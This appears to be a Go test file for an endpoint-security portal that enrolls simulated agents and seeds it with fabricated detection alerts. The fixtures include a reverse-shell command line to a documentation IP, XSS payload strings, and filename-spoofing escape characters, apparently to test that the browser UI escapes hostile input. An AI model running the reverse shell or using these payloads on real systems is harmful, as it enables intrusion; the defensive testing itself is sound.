package browser

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/sha256"
	"crypto/tls"
	"crypto/x509"
	"encoding/hex"
	"fmt"
	"net/http"
	"testing"
	"time"

	"connectrpc.com/connect"
	"github.com/klauspost/compress/zstd"

	agentv1 "github.com/bulwarkhq/bulwark/api/agent/v1"
	"github.com/bulwarkhq/bulwark/api/agent/v1/agentv1connect"
	"github.com/bulwarkhq/bulwark/api/onboarding"
	"github.com/bulwarkhq/bulwark/event"
)

// agent speaks the agent protocol as an agent does: it enrolls with the
// onboarding package and delivers over mutual TLS.
type agent struct {
	id      string
	service agentv1connect.AgentServiceClient
	info    *agentv1.DeviceInfo
	seq     uint64
	report  uint64
}

func enroll(t *testing.T, pkg []byte, info *agentv1.DeviceInfo) *agent {
	t.Helper()
	p, err := onboarding.Parse(pkg)
	if err != nil {
		t.Fatal(err)
	}
	authorities, err := p.Authorities()
	if err != nil {
		t.Fatal(err)
	}
	roots := x509.NewCertPool()
	for _, c := range authorities {
		roots.AddCert(c)
	}
	sum := sha256.Sum256([]byte(info.HostName))
	info.HardwareId, info.MachineGuid = hex.EncodeToString(sum[:]), hex.EncodeToString(sum[:16])
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	csr, err := x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{}, key)
	if err != nil {
		t.Fatal(err)
	}
	client := func(certs ...tls.Certificate) *http.Client {
		tr := &http.Transport{TLSClientConfig: &tls.Config{RootCAs: roots, Certificates: certs, MinVersion: tls.VersionTLS12}, ForceAttemptHTTP2: true}
		t.Cleanup(tr.CloseIdleConnections)
		return &http.Client{Transport: tr, Timeout: time.Minute}
	}
	resp, err := agentv1connect.NewEnrollmentServiceClient(client(), p.Portal).Enroll(t.Context(), connect.NewRequest(&agentv1.EnrollRequest{
		Token: p.EnrollmentToken, CertificateRequest: csr, Device: info,
	}))
	if err != nil {
		t.Fatal(err)
	}
	a := &agent{id: resp.Msg.DeviceId, info: info}
	a.service = agentv1connect.NewAgentServiceClient(client(tls.Certificate{Certificate: [][]byte{resp.Msg.Certificate}, PrivateKey: key}), p.Portal)
	health := fmt.Sprintf(`{"healthy":true,"health_issues":[],"app_version":%q,"engine_version":"1.0.0","antivirus_enforcement_level":"real_time",`+
		`"real_time_protection_enabled":true,"real_time_protection_subsystem":"fanotify","supplementary_events_subsystem":"ebpf","behavior_monitoring":"enabled",`+
		`"definitions_status":"up_to_date","definitions_version":"2026.11.28.1","definitions_updated":"2026-11-28T06:00:00Z","release_ring":"prod","events_waiting":0}`, info.AgentVersion)
	if _, err := a.service.CheckIn(t.Context(), connect.NewRequest(&agentv1.CheckInRequest{Device: info, HealthJson: []byte(health)})); err != nil {
		t.Fatal(err)
	}
	return a
}

func (a *agent) deliver(t *testing.T, events []event.Event, alerts ...event.Alert) {
	t.Helper()
	for i := range events {
		a.report++
		events[i].ReportID = a.report
	}
	enc, err := zstd.NewWriter(nil)
	if err != nil {
		t.Fatal(err)
	}
	a.seq++
	req := &agentv1.DeliverRequest{SpoolId: a.id[:32], Sequence: a.seq, EventsZstd: enc.EncodeAll(event.Encode(events), nil), EventCount: uint32(len(events))}
	for i := range alerts {
		raw, err := event.EncodeAlert(&alerts[i])
		if err != nil {
			t.Fatal(err)
		}
		req.AlertsJson = append(req.AlertsJson, raw)
	}
	resp, err := a.service.Deliver(t.Context(), connect.NewRequest(req))
	if err != nil {
		t.Fatal(err)
	}
	if resp.Msg.AcknowledgedSequence != a.seq {
		t.Fatalf("acknowledged %d, want %d", resp.Msg.AcknowledgedSequence, a.seq)
	}
}

func id(t *testing.T) string {
	t.Helper()
	var b [16]byte
	if _, err := rand.Read(b[:]); err != nil {
		t.Fatal(err)
	}
	return hex.EncodeToString(b[:])
}

const (
	eicarSHA256 = "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"
	hostileText = `"><script>window.pwned=1</script><img src=x onerror="window.pwned=1">`
)

// seeded is what the browser looks for.
type seeded struct{ device, alert, hostileAlert string }

// seed fills the portal with a small fleet.
func seed(t *testing.T, pkg []byte) seeded {
	t.Helper()
	now := time.Now().UTC()
	device := func(host, pretty, ip string, tags ...*agentv1.Tag) *agent {
		return enroll(t, pkg, &agentv1.DeviceInfo{
			HostName: host, OsPlatform: "Linux", OsDistribution: "debian", OsVersion: "12", OsPrettyName: pretty,
			Kernel: "6.1.0-28-amd64", Architecture: "amd64", AgentVersion: "0.1.0", IpAddresses: []string{ip}, Tags: tags, Vendor: "QEMU", Model: "Standard PC", VirtualMachine: true,
			LoggedOnUsers: []string{"ann"},
		})
	}
	group := func(v string) *agentv1.Tag { return &agentv1.Tag{Key: "GROUP", Value: v} }
	web := device("web-01.example.org", "Debian GNU/Linux 12 (bookworm)", "10.20.0.11", group("web"))
	device("web-02.example.org", "Debian GNU/Linux 12 (bookworm)", "10.20.0.12", group("web"))
	db := device("db-01.example.org", "Rocky Linux 9.4 (Blue Onyx)", "10.20.1.5", group("database"))
	build := device("build-7.example.org", "Ubuntu 24.04.1 LTS", "10.20.7.7", group("ci"))
	bad := device("laptop-of-bob", `Linux `+hostileText, "10.99.0.3")

	proc := func(pid int64, name, path, command, user string, age time.Duration) event.Process {
		return event.Process{PID: pid, FileName: name, FolderPath: path, CommandLine: command, AccountName: user, StartTime: now.Add(-age), WorkingDir: "/home/ann", LoginUID: -1}
	}
	systemd := proc(1, "systemd", "/usr/lib/systemd/systemd", "/sbin/init", "root", 90*24*time.Hour)
	sshd := proc(811, "sshd", "/usr/sbin/sshd", "sshd: ann [priv]", "root", 3*time.Hour)
	bash := proc(20411, "bash", "/usr/bin/bash", "-bash", "ann", 2*time.Hour)
	curl := proc(31877, "curl", "/usr/bin/curl", "curl -fsSL -o /tmp/eicar.com https://files.example.net/eicar.com", "ann", 5*time.Minute)
	curl.SHA256 = "b1c3b6e1a2d3c4f5061728394a5b6c7d8e9f0a1b2c3d4e5f60718293a4b5c6d7"
	chain := []event.Process{bash, sshd, systemd}
	eicar := event.Alert{
		ID: id(t), Time: now.Add(-4 * time.Minute), Title: "Eicar-Test-Signature was found and quarantined", Severity: event.SeverityHigh,
		Category: "Malware", Source: event.SourceAntivirus, DetectorID: "Eicar-Test-Signature", Techniques: []string{"T1105", "T1204.002"},
		Description: "A file that matches a signature of malicious software was opened. The access was refused and the file was moved to the quarantine.",
		ThreatName:  "Eicar-Test-Signature", ThreatFamily: "Eicar", Action: "quarantined", ActionDetail: "moved to the quarantine",
		File:    event.File{FileName: "eicar.com", FolderPath: "/tmp/eicar.com", SHA256: eicarSHA256, SHA1: "3395856ce81f2b7382dee72602f798b642f14140", MD5: "44d88612fea8a8f36de82e1278abb02f", Size: 68},
		Process: curl, Ancestry: chain,
	}
	payload := proc(31901, "sh", "/usr/bin/dash", "sh /tmp/.cache/install.sh", "ann", 4*time.Minute)
	installed := event.Alert{
		ID: id(t), Time: now.Add(-3 * time.Minute), Title: "A script out of a temporary directory was run", Severity: event.SeverityMedium,
		Category: "Execution", Source: event.SourceEDR, DetectorID: "bulwark.script_in_tmp", Techniques: []string{"T1059.004"}, Action: "none",
		Process: payload, Ancestry: append([]event.Process{curl}, chain...),
	}
	var events []event.Event
	for i := range 300 {
		at := now.Add(-time.Duration(300-i) * 11 * time.Second)
		e := event.Event{Time: at, Initiating: bash}
		switch i % 5 {
		case 0, 3:
			e.Class, e.Action = event.ClassProcess, event.ProcessCreated
			e.Process = proc(int64(30000+i), "ls", "/usr/bin/ls", fmt.Sprintf("ls -la /srv/www/site-%d", i), "ann", 0)
		case 1:
			e.Class, e.Action, e.Initiating = event.ClassFile, event.FileModified, proc(4021, "nginx", "/usr/sbin/nginx", "nginx: worker process", "www-data", time.Hour)
			e.File = event.File{FileName: "access.log", FolderPath: "/var/log/nginx/access.log", Size: int64(i * 997)}
		case 2:
			e.Class, e.Action, e.Initiating = event.ClassNetwork, event.ConnectionSuccess, curl
			e.Network = event.Network{RemoteIP: "203.0.113.40", RemotePort: 443, RemoteURL: "files.example.net", LocalIP: "10.20.0.11", LocalPort: int64(40000 + i), Protocol: "Tcp"}
		default:
			e.Class, e.Action, e.Initiating = event.ClassLogon, event.LogonSuccess, sshd
			e.Logon = event.Logon{Type: "RemoteInteractive", AccountName: "ann", RemoteIP: "10.20.9.4", RemotePort: 51122}
		}
		events = append(events, e)
	}
	events = append(events, event.Event{
		Time: eicar.Time, Class: event.ClassDevice, Action: event.AntivirusDetection, File: eicar.File, Initiating: curl,
		Additional: map[string]string{"ThreatName": eicar.ThreatName},
	})
	web.deliver(t, events, eicar, installed)
	web.deliver(t, nil, eicar) // the same alert again stays one

	shell := proc(9001, "sh", "/usr/bin/dash", `sh -c "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1"`, "postgres", time.Minute)
	db.deliver(t, nil, event.Alert{
		ID: id(t), Time: now.Add(-40 * time.Minute), Title: "Reverse shell from a database process", Severity: event.SeverityHigh,
		Category: "Execution", Source: event.SourceEDR, DetectorID: "bulwark.reverse_shell", Techniques: []string{"T1059.004"}, Action: "killed", Process: shell,
		Ancestry: []event.Process{proc(700, "postgres", "/usr/lib/postgresql/15/bin/postgres", "postgres: app app [local] SELECT", "postgres", time.Hour), systemd},
		Event: &event.Event{
			Time: now.Add(-40 * time.Minute), Class: event.ClassNetwork, Action: event.ConnectionAttempt,
			Network: event.Network{RemoteIP: "198.51.100.23", RemotePort: 4444, LocalIP: "10.20.1.5", LocalPort: 39212, Protocol: "Tcp"},
		},
	})
	build.deliver(t, nil,
		event.Alert{
			ID: id(t), Time: now.Add(-5 * time.Hour), Title: "A miner was downloaded in a build", Severity: event.SeverityMedium, Category: "UnwantedSoftware",
			Source: event.SourceAntivirus, DetectorID: "PUA.Coinminer", ThreatName: "PUA.Linux.Coinminer", Action: "blocked", Process: curl, Ancestry: chain,
			File: event.File{FileName: "xmrig", FolderPath: "/builds/cache/node_modules/.bin/xmrig"},
		},
		event.Alert{
			ID: id(t), Time: now.Add(-26 * time.Hour), Title: "A system service was changed outside of the package manager", Severity: event.SeverityLow, Category: "Persistence",
			Source: event.SourceEDR, DetectorID: "bulwark.systemd_unit", Techniques: []string{"T1543.002"}, Action: "none", Process: bash, Ancestry: []event.Process{sshd, systemd},
		})

	hostile := event.Alert{
		ID: id(t), Time: now.Add(-time.Hour), Title: "Alert " + hostileText, Severity: event.SeverityMedium, Category: hostileText, Source: event.SourceEDR,
		DetectorID: hostileText, Techniques: []string{"T1059", "javascript:alert(1)", hostileText}, Action: hostileText, ThreatName: hostileText, Description: hostileText,
		File:    event.File{FileName: "invoice\u202efdp.exe" + hostileText, FolderPath: "/tmp/" + hostileText + "\x1b[2J\u202e", SHA256: hostileText},
		Process: proc(666, hostileText, "/tmp/"+hostileText, hostileText+" {{.}} ${x}", hostileText, time.Minute), Ancestry: []event.Process{proc(665, hostileText, hostileText, hostileText, hostileText, time.Hour)},
	}
	bad.deliver(t, []event.Event{{
		Time: now, Class: event.ClassProcess, Action: hostileText, Process: hostile.Process, Initiating: hostile.Process,
		Additional: map[string]string{hostileText: hostileText},
	}}, hostile)
	return seeded{device: "web-01.example.org", alert: eicar.ID, hostileAlert: hostile.ID}
}
